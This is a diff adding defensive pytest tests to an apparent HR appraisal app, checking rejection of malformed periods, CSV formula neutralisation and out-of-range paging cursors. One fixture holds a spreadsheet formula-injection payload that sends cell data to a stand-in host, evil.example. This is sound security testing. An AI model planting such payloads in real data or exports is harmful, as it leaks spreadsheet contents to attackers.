@@ -135,3 +135,91 @@ def test_a_step_posted_with_a_newline_in_next_is_a_400_and_changes_nothing(clien
     assert response.status_code == 400
     session.refresh(record)
     assert record.state == "draft"
+
+
+# -- found by trying it as an insider ------------------------------------------------------
+
+
+@pytest.mark.parametrize("period", ["annual\n", "Q1\n", "M01\n", " annual", "ANNUAL"])
+def test_a_period_that_is_none_of_the_periods_is_refused_everywhere(
+    client, session, cast, bearer, period
+):
+    from sqlalchemy import func, select, text
+    from sqlalchemy.exc import IntegrityError
+
+    from workflow.models import Appraisal, OrganisationRating
+
+    def counts():
+        session.rollback()  # what the server wrote, not this session's snapshot
+        return [session.scalar(select(func.count()).select_from(m)) for m in (Appraisal,)] + [
+            session.scalar(select(func.count()).select_from(OrganisationRating))
+        ]
+
+    before = counts()
+    # the employee, through the API (a second appraisal of an appraised year)
+    response = client.post(
+        "/api/v1/appraisals",
+        json={"employee_id": cast.subject_employee.id, "year": 2025, "period": period},
+        headers=bearer(cast.subject),
+    )
+    assert response.status_code == 422
+    # … and through the back office
+    bo.log_in(client, session, cast.subject)
+    page = bo.text(client.get("/admin/admin_appraisals/new/"))
+    client.post(
+        "/admin/admin_appraisals/new/",
+        data={"csrf_token": bo.csrf(page), "year": "2025", "period": period},
+    )
+    bo.log_out(client)
+    # an HR officer setting the organisation's rating for such a period
+    bo.log_in(client, session, cast.hr)
+    page = bo.text(client.get("/admin/predicate-distribution/"))
+    client.post(
+        "/admin/predicate-distribution/rate",
+        data={
+            "csrf_token": bo.csrf(page),
+            "agency": cast.agency.id,
+            "year": "2025",
+            "period": period,
+            "rating": "Baik",
+        },
+    )
+    assert counts() == before
+    # … and the database itself, edited by hand
+    with pytest.raises(IntegrityError):
+        session.execute(
+            text(
+                "INSERT INTO organisation_ratings (agency_id, year, period, rating, set_at) "
+                "VALUES (:agency, 2025, :period, 'Baik', CURRENT_TIMESTAMP)"
+            ),
+            {"agency": cast.agency.id, "period": period},
+        )
+        session.flush()
+    session.rollback()
+
+
+def test_the_below_20_jp_export_neutralises_formulas_in_names_and_units(client, session, cast):
+    employee = cast.colleague.employee
+    employee.name = '=HYPERLINK("http://evil.example/?"&A2,"klik")'
+    employee.unit.name = "@SUM(1+1)"
+    session.commit()
+    bo.log_in(client, session, cast.hr)
+    exported = bo.text(client.get(f"/admin/jp-report/export.csv?year=2026&agency={cast.agency.id}"))
+    row = next(line for line in exported.splitlines() if line.startswith(employee.nip))
+    assert "\"'=HYPERLINK(" in row and ",'@SUM(1+1)," in row
+    assert ",=" not in row and ",@" not in row
+
+
+@pytest.mark.parametrize(
+    "url",
+    [
+        "/admin/inbox/?after=2026-01-01T00:00:00%2B00:00|appraisal|99999999999999999999999",
+        "/admin/inbox/?after=2026-01-01T00:00:00%2B00:00|appraisal|-1",
+        "/admin/jp-report/?after=9223372036854775808",
+        "/admin/jp-report/?after=-9223372036854775809",
+    ],
+)
+def test_a_paging_cursor_past_a_row_id_shows_the_first_page(client, session, cast, url):
+    bo.log_in(client, session, cast.hr)
+    response = client.get(url)
+    assert response.status_code == 200
